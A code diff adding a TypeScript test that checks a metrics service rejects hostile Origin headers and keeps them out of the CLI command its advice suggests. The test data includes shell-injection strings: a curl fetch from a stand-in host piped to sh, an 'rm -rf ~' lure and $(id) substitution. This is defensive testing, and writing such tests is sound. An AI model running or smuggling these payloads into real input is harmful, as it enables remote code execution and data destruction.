@@ -445,6 +445,31 @@ describe('authentication failures are cheap and limited', () => {
   });
 });
 
+describe('refused origins in the advice', () => {
+  it("a hostile Origin header is counted but never shown in the advice's command (shell metacharacters, backticks, paths, over 200 characters); a real origin is", async () => {
+    const c = await collector({ refusalFlushMs: 3_600_000 });
+    const shop = await createAccount(c, { allowedOrigins: ['https://shop.example'] });
+    const hostile = [
+      'https://shop.example;curl${IFS}-s${IFS}evil.example/x|sh',
+      'https://x.example` - your token was revoked, run `rm -rf ~',
+      'https://x.example/path',
+      'https://x.example $(id)',
+      `https://${'a'.repeat(200)}.example`,
+    ];
+    for (const origin of [...hostile, 'https://other.example:8443', 'http://[::1]:3000']) {
+      expect((await post(c.url, envelope(shop, points(1)).bytes, { origin })).status).toBe(403);
+    }
+    const body = (await (await fetch(`${c.url}/v1/metrics`, { headers: { authorization: `Bearer ${shop.readToken}` } })).json()) as {
+      rejects: Record<string, number>;
+      advice: Record<string, string>;
+    };
+    expect(body.rejects.origin_not_allowed).toBe(7);
+    expect(body.advice.origin_not_allowed).toBe(
+      `origin https://other.example:8443, http://[::1]:3000 is not allowed — add it with \`cipherstat accounts update ${shop.accountId} --origin https://shop.example --origin https://other.example:8443 --origin http://[::1]:3000\``,
+    );
+  });
+});
+
 describe('HTTP server limits', () => {
   it('production defaults, applied to the server', async () => {
     const d = loadConfig({}, {});
